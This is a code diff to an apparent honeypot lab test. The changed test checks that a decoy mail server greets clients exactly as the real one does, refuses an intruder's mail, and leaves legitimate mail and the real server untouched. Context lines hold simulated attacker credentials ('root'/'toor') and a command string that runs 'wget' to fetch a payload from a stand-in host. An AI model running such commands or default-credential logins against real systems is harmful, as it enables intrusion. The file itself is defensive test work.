@@ -26,7 +26,7 @@ from lab.services.controllers import api_address
 _INTRUDER, _ADDRESS = "attacker", "198.51.100.66"
 _DECOY = "decoy1"
 _DARK = (("203.0.113.50", 22), ("203.0.113.51", 22), ("203.0.113.52", 23))
-_SERVER = "203.0.113.10"
+_SERVER, _RECIPIENT = "203.0.113.10", "alice@acme.example"
 _USER, _PASSWORD = "root", "toor"
 _COMMANDS = "id; hostname; wget http://198.51.100.200/payload"
 _PATIENCE_S = 10.0
@@ -38,8 +38,8 @@ def story(lab: Lab) -> list[Outcome]:
     api = ApiClient(api_address(lab.places))
     found = [_scan(lab), _decided(api)]
     found.append(_log_in(lab))
-    found.append(_real_server_saw_nothing(lab))
-    found.append(_legitimate_mail(lab))
+    found += _mail(lab)
+    found.append(_same_look(lab))
     found.append(_log(lab))
     found += _receipt_and_pardon(lab, api)
     return found
@@ -83,35 +83,51 @@ def _log_in(lab: Lab) -> Outcome:
     return Outcome("at acme's real address the intruder is let into a decoy", "logged in", is_good)
 
 
-def _real_server_saw_nothing(lab: Lab) -> Outcome:
-    """SMTP to acme's real server: whoever speaks there, it is not acme's Postfix."""
+def _mail(lab: Lab) -> Iterator[Outcome]:
+    """The intruder and a legitimate sender, at the same address: who answers is not the same."""
     log = lab.places.log("acme-mx.postfix")
     before = log.stat().st_size
-    try:
-        with _connected(lab, _SERVER, 25) as connection:
-            paper.fact("tries mail", f"at [{_SERVER}]:25, greeted with {_first_line(connection)!r}")
-    except ConnectionRefusedError:
-        paper.fact("tries mail", f"at [{_SERVER}]:25: refused")
-    time.sleep(0.5)
+    told = _send(lab, _INTRUDER)
+    paper.fact("mails", f"{_RECIPIENT} at [{_SERVER}]:25, told: {told}")
+    yield Outcome("the decoy of a mail server takes no message for good", told[:26], told.startswith("4"))
+    told = _send(lab, "sender")
+    paper.fact("meanwhile", f"a legitimate sender's mail to {_RECIPIENT}: {told}")
+    yield Outcome("a legitimate sender works on", told[:26], told.startswith("250"))
     with log.open(encoding="utf-8", errors="replace") as file:
         file.seek(before)
         is_seen = _ADDRESS in file.read()
     what = "acme-mx saw the intruder" if is_seen else "acme-mx saw nothing of it"
-    return Outcome("the intruder's mail connection never reaches acme's server", what, not is_seen)
+    yield Outcome("the intruder's mail never reaches acme's server", what, not is_seen)
 
 
-def _legitimate_mail(lab: Lab) -> Outcome:
-    recipient = "alice@acme.example"
-    letter = Letter(
-        "someone@sender.example",
-        recipient,
-        _SERVER,
-        build(Content.CLEAN, "someone@sender.example", recipient),
-        False,
+def _send(lab: Lab, host: str) -> str:
+    message = build(Content.CLEAN, "someone@sender.example", _RECIPIENT)
+    letter = Letter("someone@sender.example", _RECIPIENT, _SERVER, message, False)
+    return send(lab.places.pin(host), letter).reply
+
+
+def _same_look(lab: Lab) -> Outcome:
+    """What a mail client is told first, by the real server and by its decoy."""
+    seen = {}
+    for host in ("sender", _INTRUDER):
+        with probes.connect(lab.places.pin(host), _SERVER, 25, _PATIENCE_S) as connection:
+            lines = connection.makefile("rb")
+            greeting = [lines.readline()]
+            connection.sendall(b"EHLO client.example\r\n")
+            while (line := lines.readline())[3:4] == b"-":
+                greeting.append(line)
+            seen[host] = [*greeting, line]
+    real, decoy = seen.values()
+    paper.fact(
+        "compares",
+        f"greeting and EHLO of real server and decoy, {len(real)} lines: "
+        + ("the same" if real == decoy else f"{real} / {decoy}"),
     )
-    told = send(lab.places.pin("sender"), letter)
-    paper.fact("meanwhile", f"a legitimate sender's mail to {recipient}: {told.reply}")
-    return Outcome("a legitimate sender works on", told.reply[:40], told.reply.startswith("250"))
+    return Outcome(
+        "the decoy greets as the real server does",
+        "the same" if real == decoy else "not the same",
+        real == decoy,
+    )
 
 
 def _log(lab: Lab) -> Outcome:
